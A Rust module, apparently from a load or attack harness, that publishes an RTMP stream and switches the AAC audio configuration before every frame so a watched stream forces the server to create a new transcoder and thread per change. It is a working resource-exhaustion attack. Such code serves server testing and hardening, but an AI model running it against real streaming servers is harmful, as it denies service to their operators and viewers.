//! A changed AAC configuration before each audio frame, on a stream that somebody watches.
//!
//! Each change is a reason to make a new transcoder, and a thread for it.

use super::context::Context;
use super::error::AttackError;
use super::media::{Clip, audio_header};
use super::rtmp::{AUDIO, RtmpPeer, VIDEO};
use super::watcher::Watcher;

const NAME: &str = "aac";

/// Changes that are sent at once.
const BATCH: u32 = 64;

/// From one keyframe to the next, in changes.
const KEYFRAME_INTERVAL: u32 = 1000;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let clip = Clip::read(context)?;
    let mut publisher = RtmpPeer::publish(context, 0, NAME).await?;
    publisher.push(VIDEO, 0, clip.video_header.clone());
    publisher.push(AUDIO, 0, clip.audio_header.clone());
    publisher.push(VIDEO, 0, clip.keyframe.clone());
    publisher.push(AUDIO, 0, clip.audio.clone());
    publisher.flush(context).await?;
    let mut watcher = Watcher::watch(context, 1, &format!("live/{NAME}")).await?;
    tokio::select! {
        ended = watcher.go_on(context) => ended,
        ended = publish(context, &mut publisher, &clip) => ended,
    }
}

async fn publish(
    context: &Context,
    publisher: &mut RtmpPeer,
    clip: &Clip,
) -> Result<(), AttackError> {
    for number in 1_u32.. {
        if number.is_multiple_of(KEYFRAME_INTERVAL) {
            publisher.push(VIDEO, number, clip.keyframe.clone());
        }
        publisher.push(AUDIO, number, audio_header(!number.is_multiple_of(2)));
        publisher.push(AUDIO, number, clip.audio.clone());
        if number.is_multiple_of(BATCH) {
            publisher.flush(context).await?;
            context.note("configurations", f64::from(number));
        }
    }
    Ok(())
}
